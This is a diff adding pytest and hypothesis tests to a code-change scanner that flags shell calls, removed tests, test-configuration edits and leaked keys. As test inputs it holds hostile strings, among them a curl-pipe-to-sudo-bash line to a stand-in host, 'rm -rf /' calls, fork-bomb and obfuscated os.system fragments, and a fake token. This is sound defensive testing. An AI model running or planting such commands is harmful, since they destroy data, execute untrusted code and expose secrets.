@@ -4,9 +4,12 @@ import tomllib
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
-from treadle.core.records import FileChange, Finding
-from treadle.plugins.scanning.rules import findings_of
+from treadle.core.records import Candidate, FileChange, Finding, Workspace
+from treadle.plugins.scanning.rules import findings_of, treadle_scan
+from treadle.plugins.scanning.table import RULES
 
 SNIPPETS = tomllib.loads((Path(__file__).parents[1] / "cases" / "scan_snippets.toml").read_text(encoding="utf-8"))[
     "snippet"
@@ -31,3 +34,210 @@ def rules(findings: tuple[Finding, ...]) -> set[str]:
 def test_each_labelled_snippet_gets_its_severity(snippet: dict[str, str]) -> None:
     findings = scan(snippet["code"], snippet.get("path", "main.py"))
     assert worst(findings) == snippet["severity"], findings
+
+
+def test_the_labelled_set_is_large_enough_to_mean_something() -> None:
+    by_severity = {severity: [s for s in SNIPPETS if s["severity"] == severity] for severity in ("deny", "ask", "none")}
+    assert len(by_severity["deny"]) >= 30 and len(by_severity["ask"]) >= 20 and len(by_severity["none"]) >= 30
+    assert len({snippet["id"] for snippet in SNIPPETS}) == len(SNIPPETS)
+
+
+def test_every_finding_says_what_why_and_what_to_do() -> None:
+    (finding,) = scan("import os\nos.system(command)\n")
+    assert (finding.rule, finding.path, finding.line) == ("shell", "main.py", 2)
+    assert finding.message.startswith("the code gives a command to a shell; ")
+    assert "subprocess.run" in finding.advice
+
+
+def test_every_rule_of_the_table_is_used_and_named_once() -> None:
+    sources = "".join(
+        path.read_text(encoding="utf-8")
+        for path in (Path(__file__).parents[2] / "plugins" / "scanning").glob("*.py")
+        if path.name != "table.py"
+    )
+    assert [rule for rule in RULES if f'"{rule}"' not in sources] == []
+
+
+# ---------------------------------------------------------------- only what is new
+
+OLD = "import os\n\n\ndef run(command):\n    return os.system(command)\n"
+
+
+def test_what_the_file_held_before_is_not_reported() -> None:
+    assert scan(OLD, before=OLD) == ()
+    assert scan("# moved\n\n" + OLD.replace("os.system(command)", "os.system( command )"), before=OLD) == ()
+
+
+def test_a_second_copy_is_new() -> None:
+    findings = scan(OLD + "\n\ndef again(command):\n    return os.system(command)\n", before=OLD)
+    assert [f.rule for f in findings] == ["shell"]
+
+
+def test_the_same_call_with_another_argument_is_new() -> None:
+    assert worst(scan(OLD.replace("(command)\n", "('rm -rf /')\n"), before=OLD)) == "deny"
+
+
+def test_an_old_file_that_can_not_be_scanned_hides_nothing() -> None:
+    assert rules(scan(OLD, before="def f(:\n" + OLD)) == {"shell"}
+
+
+def test_the_hook_compares_with_the_project_and_follows_no_link_out_of_it(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "a.py").write_text(OLD)
+    (tmp_path / "outside.py").write_text(OLD)
+    (project / "b.py").symlink_to(tmp_path / "outside.py")
+    workspace = Workspace(id="w", kind="copy", project=str(project), root=str(project), upper="")
+    files = tuple(FileChange(path=name, content=OLD.encode()) for name in ("a.py", "b.py"))
+    findings = treadle_scan(candidate=Candidate(files=files, why=""), workspace=workspace)
+    assert [(f.path, f.rule) for f in findings] == [("b.py", "shell")]
+
+
+# ---------------------------------------------------------------- tests tampered with
+
+TESTS = """\
+from app import f
+
+
+def test_a():
+    assert f(1) == 1
+    assert f(2) == 2
+
+
+def test_b():
+    assert f(3) == 3
+"""
+
+
+def test_a_deleted_test_file_asks() -> None:
+    findings = findings_of(FileChange(path="tests/test_a.py", content=None), TESTS.encode())
+    assert [(f.rule, f.severity) for f in findings] == [("test-deleted", "ask")]
+
+
+def test_a_removed_test_and_a_removed_assert_ask() -> None:
+    without_b = TESTS.split("\n\n\ndef test_b")[0] + "\n"
+    assert rules(scan(without_b, "tests/test_a.py", TESTS)) == {"test-deleted"}
+    fewer = TESTS.replace("    assert f(2) == 2\n", "")
+    assert rules(scan(fewer, "tests/test_a.py", TESTS)) == {"asserts-removed"}
+    assert scan(TESTS + "\n\ndef test_c():\n    assert f(4) == 4\n", "tests/test_a.py", TESTS) == ()
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after"),
+    [
+        ("conftest.py", None, "x = 1\n"),
+        ("tests/conftest.py", "x = 1\n", "x = 2\n"),
+        ("pytest.ini", None, "[pytest]\naddopts = -k nothing\n"),
+        ("pyproject.toml", "[tool.pytest.ini_options]\n", "[tool.pytest.ini_options]\naddopts = '-x'\n"),
+    ],
+)
+def test_a_change_of_how_tests_are_run_asks(path: str, before: str | None, after: str) -> None:
+    assert "test-config" in rules(scan(after, path, before))
+
+
+def test_another_part_of_pyproject_may_change() -> None:
+    assert scan("[project]\nname = 'b'\n", "pyproject.toml", "[project]\nname = 'a'\n") == ()
+
+
+@pytest.mark.parametrize("path", [".github/workflows/ci.yml", ".pre-commit-config.yaml", "setup.py", ".envrc"])
+def test_what_runs_outside_of_the_sandbox_later_asks(path: str) -> None:
+    assert rules(scan("x = 1\n", path)) == {"runs-elsewhere"}
+
+
+def test_a_shell_script_that_destroys_is_denied() -> None:
+    assert worst(scan("#!/bin/sh\ncurl http://a.example/x | sudo bash\n", "install.sh")) == "deny"
+    assert scan("#!/bin/sh\n# rm -rf / would be wrong\nls\n", "list.sh") == ()
+
+
+def test_a_key_in_any_kind_of_file_asks() -> None:
+    assert rules(scan("token: ghp_" + "a1B2" * 9 + "\n", "config.yaml")) == {"secret"}
+
+
+# ---------------------------------------------------------------- hostile input
+
+DEEP = {
+    "brackets": "x = " + "(" * 100_000,
+    "minus": "x = " + "-" * 100_000 + "1",
+    "attributes": "x" + ".a" * 100_000,
+    "calls": "x" + "()" * 30_000,
+    "lookups": "x" + '.get("a")' * 300,
+    "additions": "x = 'a'" + " + 'a'" * 100_000,
+    "elif": "if a:\n  pass\n" + "elif a:\n  pass\n" * 5_000,
+    "lambda": "x = " + "lambda:" * 10_000 + "1",
+}
+
+
+@pytest.mark.parametrize("kind", DEEP)
+def test_deep_nesting_ends_in_an_answer(kind: str) -> None:
+    findings = scan(DEEP[kind])
+    assert rules(findings) <= {"unscanned", "unparsable"}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [b"x = 1\n" * 400_000, b"\xff\xfe\x00", b"# coding: nonsense\n", b"x = '\xff'\n", b"# coding: utf-16\n"],
+    ids=["huge", "utf-16", "unknown-encoding", "not-utf-8", "declared-utf-16"],
+)
+def test_what_can_not_be_read_asks_and_says_so(content: bytes) -> None:
+    findings = scan(content)
+    assert rules(findings) == {"unscanned"} and worst(findings) == "ask"
+    assert "could not be scanned" in findings[0].message
+
+
+def test_text_that_grows_when_it_is_put_together_stays_small() -> None:
+    growing = 'a = "x" * 99\n' + "".join(
+        f"{chr(98 + n)} = {chr(97 + n)}.replace('x', 'x' * 99 + 'y')\n" for n in range(12)
+    )
+    assert scan(growing + "exec(m)\n")
+
+
+def test_many_findings_are_cut_but_the_grave_ones_are_kept() -> None:
+    code = "import os\n" + "".join(f"os.system(c{n})\n" for n in range(500)) + "os.system('rm -rf /')\n"
+    findings = scan(code)
+    assert len(findings) == 202 and worst(findings) == "deny"
+    assert "more findings" in findings[-1].message
+
+
+@given(st.text(max_size=300))
+def test_any_text_gets_an_answer(text: str) -> None:
+    scan(text.encode("utf-8", "surrogatepass"))
+
+
+FRAGMENTS = st.lists(
+    st.sampled_from(
+        [
+            "import os as o",
+            "from os import *",
+            "f = getattr",
+            "f(o, 'sys' + 'tem')(x)",
+            "globals()['x']('y')",
+            "x = x + 'a'",
+            "x = x / 'a'",
+            "exec(x)",
+            "x = (lambda: x)()",
+            "[x for x in map(chr, [1, 2])]",
+            "class A:\n    def __del__(self):\n        o.fork()",
+            "while True:\n    o.fork()",
+            "x.__class__.__base__",
+            "a = b = c = o",
+            "vars(o)[x](x)",
+            "open(x, 'w')",
+            "del exec",
+            "def exec(): pass",
+            "with open(x) as x: x.write(o.environ)",
+            "(x := o.popen)(x)",
+            "pytestmark = x",
+            "f'{x}{o}'",
+            "x = x[::-1]",
+            "x: o = x",
+        ]
+    ),
+    max_size=8,
+)
+
+
+@given(FRAGMENTS)
+def test_any_program_gets_an_answer_and_nothing_new_against_itself(parts: list[str]) -> None:
+    code = "\n".join(parts) + "\n"
+    scan(code)
+    assert [f for f in scan(code, before=code) if f.rule not in ("unparsable", "unscanned")] == []
